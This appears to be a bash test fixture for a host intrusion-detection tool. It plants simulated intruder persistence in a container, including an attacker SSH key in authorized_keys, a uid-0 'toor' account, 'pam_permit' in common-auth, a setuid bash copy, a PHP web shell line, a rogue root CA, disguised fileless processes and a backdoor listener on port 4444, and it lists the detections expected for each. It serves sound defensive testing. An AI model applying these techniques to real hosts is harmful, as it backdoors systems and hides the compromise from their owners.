# shellcheck shell=bash
# What an intruder does to a host, and what must be reported of it; sourced by quiet.sh.
#
#   intrude        files, while nothing of it runs yet
#   intrude_live   accounts, services, listeners, processes: what is more than a file
#   EXPECTED, EXPECTED_LIVE, ALONG   what is to be found
intrude() {
	container_run bash -eu <<-'END'
		printf '[Service]\nExecStart=/bin/true\n' >/etc/systemd/system/evil.service
		ln -s ../evil.service /etc/systemd/system/multi-user.target.wants/evil.service
		printf '[Timer]\nOnBootSec=1\n' >/usr/lib/systemd/system/evil.timer
		printf '[Service]\nExecStart=/bin/true\n' >/run/systemd/system/evil-run.service
		install -D -m 0644 /dev/null /home/alice/.config/systemd/user/evil.service
		ssh-keygen -q -t ed25519 -N '' -C evil -f /tmp/evil
		cat /tmp/evil.pub >>/home/alice/.ssh/authorized_keys
		install -d -m 0700 /root/.ssh
		cp /tmp/evil.pub /root/.ssh/authorized_keys
		echo 'PermitRootLogin yes' >/etc/ssh/sshd_config.d/evil.conf
		echo 'alice ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/evil
		chmod u+s /usr/bin/find
		echo /lib/x86_64-linux-gnu/libm.so.6 >/etc/ld.so.preload
		echo lib >/usr/lib/x86_64-linux-gnu/libevil.so.1
		echo '* * * * * root /bin/true' >/etc/cron.d/evil
		echo '* * * * * /bin/true' >>/var/spool/cron/crontabs/alice
		cp -p /usr/bin/wc /tmp/wc.times
		printf X | dd of=/usr/bin/wc bs=1 seek=9000 conv=notrunc status=none
		touch -r /tmp/wc.times /usr/bin/wc
		chattr +i /usr/bin/nproc
		python3 -c 'import os; os.setxattr("/usr/bin/tac", "security.capability",
		    bytes.fromhex("0100000280000000000000000000000000000000"))'
		echo evil >/usr/lib/modules/6.1.0-1-amd64/kernel/net/evil.ko
		echo 'install dccp /bin/true' >/etc/modprobe.d/evil.conf
		echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd
		echo 'auth sufficient pam_permit.so' >>/etc/pam.d/common-auth
		echo pam >/usr/lib/x86_64-linux-gnu/security/pam_evil.so
		echo 'true' >/etc/profile.d/evil.sh
		echo 'alias sudo=true' >>/root/.bashrc
		printf '#!/bin/sh\n' >/etc/update-motd.d/99-evil
		echo 'ACTION=="add", RUN+="/bin/true"' >/etc/udev/rules.d/99-evil.rules
		printf '#!/bin/sh\n' >/etc/init.d/evil
		echo 'DPkg::Post-Invoke {"true";};' >/etc/apt/apt.conf.d/99evil
		openssl req -x509 -newkey ed25519 -nodes -days 30 -subj '/CN=Evil Root' \
			-keyout /dev/null -out /usr/local/share/ca-certificates/evil.crt 2>/dev/null
		update-ca-certificates >/dev/null 2>&1
		echo '192.0.2.1 deb.debian.org' >>/etc/hosts
		echo 'import os' >/usr/lib/python3/dist-packages/evil.pth
		echo '<?php system($_GET[0]);' >/var/www/html/uploads/x.php
		echo data >/dev/.hidden
		rm /etc/logrotate.d/rsyslog
		echo 'x' >>/usr/bin/invar
		printf '#!/bin/sh\n' >/usr/local/bin/ls
		cp /bin/bash /var/tmp/.bash
		chmod 4755 /var/tmp/.bash
		echo data >/usr/share/nobody
		chown 4711:4711 /usr/share/nobody
		mknod /home/alice/disk b 8 0
		cp /bin/true /dev/shm/.true
		printf '[D-BUS Service]\nName=org.evil\nExec=/bin/true\nUser=root\n' \
			>/usr/share/dbus-1/system-services/org.evil.service
		install -D -m 0644 /dev/null /etc/polkit-1/rules.d/00-evil.rules
		echo 'kernel.randomize_va_space = 0' >/etc/sysctl.d/evil.conf
		# under names that are left out elsewhere
		install -D -m 0644 /dev/null /run/systemd/system-generators/session-1.scope.evil
		echo 'd /run/evil' >/etc/tmpfiles.d/static-nodes.conf
		install -d /etc/systemd/system/ssh.service.d
		printf '[Service]\nEnvironment=LD_PRELOAD=/dev/shm/.x.so\n' \
			>/etc/systemd/system/ssh.service.d/evil.conf
	END
}

# Runs until the container goes. No program is written for it: what the base has is enough.
intrude_live() {
	container_run bash -eu <<-'END'
		useradd -m mallory
		echo 'mallory:x' | chpasswd
		usermod -aG sudo mallory
		cp /bin/sleep /tmp/.x
		setsid /tmp/.x 10000 &
		cp /bin/sleep /usr/local/bin/gone
		setsid /usr/local/bin/gone 10000 &
		sleep 0.3
		rm /usr/local/bin/gone
		setsid python3 - <<-'PY' &
			import os
			fd = os.memfd_create("kworker")
			os.write(fd, open("/bin/sleep", "rb").read())
			os.execve(f"/proc/self/fd/{fd}", ["[kworker/0:1]", "10000"], {})
		PY
		setsid python3 - <<-'PY' &
			import socket, time
			keep = [socket.socket(), socket.socket(type=socket.SOCK_DGRAM), socket.socket(socket.AF_UNIX)]
			keep[0].bind(("0.0.0.0", 4444))
			keep[0].listen()
			keep[1].bind(("0.0.0.0", 4445))
			keep[2].bind("\0backdoor")
			keep[2].listen()
			time.sleep(10000)
		PY
		setsid unshare -n python3 - <<-'PY' &
			import socket, time
			s = socket.socket()
			s.bind(("0.0.0.0", 4446))
			s.listen()
			time.sleep(10000)
		PY
		cp /usr/lib/x86_64-linux-gnu/libm.so.6 /dev/shm/.libm.so
		LD_PRELOAD=/dev/shm/.libm.so setsid tail -f /dev/null &
		setsid tail -f /dev/zero >/dev/null &
		kill -STOP $!
		mount -t tmpfs tmpfs "/proc/$!"
		passwd -dq alice
		id=$(printf '%064d' 7)
		install -d "/var/lib/docker/containers/$id"
		printf '{"ID":"%s","Name":"/evil","State":{"Running":true},"Config":{"Image":"evil"}}' \
			"$id" >"/var/lib/docker/containers/$id/config.v2.json"
		printf '{"Privileged":true,"Binds":["/:/host"]}' \
			>"/var/lib/docker/containers/$id/hostconfig.json"
		systemctl daemon-reload
		systemctl start evil.timer 2>/dev/null || true
		systemd-run --quiet --unit=backdoor sleep 10000
		systemd-run --quiet --unit=packagekit sleep 10000
		printf 'import time\ntime.sleep(10000)\n' >/dev/shm/.p.py
		setsid setpriv --reuid 64001 --clear-groups python3 /dev/shm/.p.py &
		setsid python3 - <<-'PY' &
			import os
			fd = os.memfd_create("runc_cloned:/proc/self/exe")
			os.write(fd, open("/bin/sleep", "rb").read())
			os.execve(f"/proc/self/fd/{fd}", ["runc", "10000"], {})
		PY
		# one of those that are the container's own
		sysctl -qw net.ipv4.ip_forward=$((1 - $(sysctl -n net.ipv4.ip_forward)))
		mount -t tmpfs -o suid tmpfs /media
		install -d /tmp/deb/DEBIAN /tmp/deb/opt/evil
		printf 'Package: evil\nVersion: 1\nArchitecture: all\nMaintainer: x\nDescription: x\n' \
			>/tmp/deb/DEBIAN/control
		dpkg-deb -b /tmp/deb /tmp/evil.deb >/dev/null
		dpkg -i /tmp/evil.deb >/dev/null
		sleep 1
	END
	nsenter --target "$CONTAINER_LEADER" --net nft -f - <<-'END'
		add table inet evil
		add chain inet evil DOCKER-x { type filter hook input priority -300; policy accept; }
	END
}

# change key rule fields ("-": any); severity must be high or critical.
EXPECTED='
created /run/systemd/system-generators/session-1.scope.evil systemd-runtime-generators -
created /etc/tmpfiles.d/static-nodes.conf systemd -
created /etc/systemd/system/evil.service systemd -
created /etc/systemd/system/multi-user.target.wants/evil.service systemd -
created /usr/lib/systemd/system/evil.timer systemd|system-libraries -
created /run/systemd/system/evil-run.service systemd-runtime -
created /home/alice/.config/systemd/user/evil.service systemd-user -
updated /home/alice/.ssh/authorized_keys ssh-keys -
created /root/.ssh/authorized_keys ssh-keys -
created /etc/ssh/sshd_config.d/evil.conf ssh-server -
created /etc/sudoers.d/evil sudo -
updated /usr/bin/find setuid mode
created /etc/ld.so.preload dynamic-linker-preload -
created /usr/lib/x86_64-linux-gnu/libevil.so.1 system-libraries -
created /etc/cron.d/evil cron -
updated /var/spool/cron/crontabs/alice cron -
updated /usr/bin/wc system-executables sha256
updated /usr/bin/nproc system-executables flags
updated /usr/bin/tac setuid caps
created /usr/lib/modules/6.1.0-1-amd64/kernel/net/evil.ko kernel-modules|system-libraries -
created /etc/modprobe.d/evil.conf kernel-modules-config -
updated /etc/passwd accounts -
updated /etc/pam.d/common-auth pam -
created /usr/lib/x86_64-linux-gnu/security/pam_evil.so pam-modules -
created /etc/profile.d/evil.sh shell-start -
updated /root/.bashrc shell-start-user -
created /etc/update-motd.d/99-evil shell-start -
created /etc/udev/rules.d/99-evil.rules udev -
created /etc/init.d/evil init -
created /etc/apt/apt.conf.d/99evil package-manager -
created /usr/local/share/ca-certificates/evil.crt certificates|usr-local -
updated /etc/hosts name-resolution -
created /usr/lib/python3/dist-packages/evil.pth python-start|system-libraries -
created /var/www/html/uploads/x.php web-scripts -
created /dev/.hidden dev-files -
deleted /etc/logrotate.d/rsyslog defences -
updated /usr/bin/invar defences-own -
created /usr/local/bin/ls usr-local -
created /var/tmp/.bash setuid|setuid-temporary -
created /usr/share/nobody ownerless -
created /home/alice/disk device-nodes -
created /dev/shm/.true shm-programs -
created /usr/share/dbus-1/system-services/org.evil.service dbus -
created /etc/polkit-1/rules.d/00-evil.rules polkit -
created /etc/sysctl.d/evil.conf kernel-settings -
created /etc/systemd/system/ssh.service.d/evil.conf systemd -
'
# The same seen as what it does, and what was done live. Keys may have wildcards.
EXPECTED_LIVE='
created user:mallory .* -
created user:toor .* -
updated group:sudo .* -
created ssh-key:root:* .* -
created ssh-key:alice:* .* -
created sudo-rule:* .* -
created pam-rule:* .* -
created cron:/etc/cron.d/evil:root:/bin/true .* -
created cron:/var/spool/cron/crontabs/alice:/bin/true .* -
created service:evil.service .* -
created service:evil.timer .* -
created service:backdoor.service .* -
updated service:ssh.service .* -
created port:tcp/0.0.0.0/4444 .* -
created port:udp/0.0.0.0/4445 .* -
created port:tcp/0.0.0.0/4446@netns:* .* -
created process:/tmp/.x@root* .* -
created process:/memfd:kworker@root* .* -
created process:/usr/local/bin/gone@root* .* -
created process:/usr/bin/tail@root* .* -
created hidden:* .* -
created mount:/proc/* mount-hiding -
created container:* container-escape -
updated user:alice user-open -
updated sysctl:net.ipv4.ip_forward .* -
created mount:/media .* -
created firewall:inet/evil .* -
created firewall:inet/evil/DOCKER-x firewall -
created service:packagekit.service service-passing -
created process:/usr/bin/python3.11@64001* process-from-scratch -
created process:/memfd:runc_cloned:/proc/self/exe@root* process-without-file -
created certificate:ca:Evil_Root* .* -
created package:dpkg:evil:all .* -
created port:dbus/system/org.evil .* -
'
# Made on the way.
ALONG='
- /home/alice/.config/systemd
- /home/alice/.config/systemd/user
- /root/.ssh
- /etc/polkit-1
- /etc/polkit-1/rules.d
- /etc/ssl/certs/*
- /etc/systemd/system/ssh.service.d
- /home/mallory*
- /opt/evil
- /dev/shm/.libm.so
- /var/lib/dpkg/*
- /etc/group
- /etc/gshadow
- /etc/shadow
- /etc/subuid
- /etc/subgid
- cron:evil.timer
- firewall:firewall
- /run/systemd/system-generators
- /dev/shm/.p.py
- port:unix/@backdoor
- /media
- sysctl:kernel.randomize_va_space
- sysctl:net.ipv4.conf.*
- ssh-key:toor:*
- user:root
- group:mallory
- service:evil-run.service
- service:user/alice/evil.service
- process:/usr/bin/python3.11@root*
- process:/usr/bin/sleep@root*
'
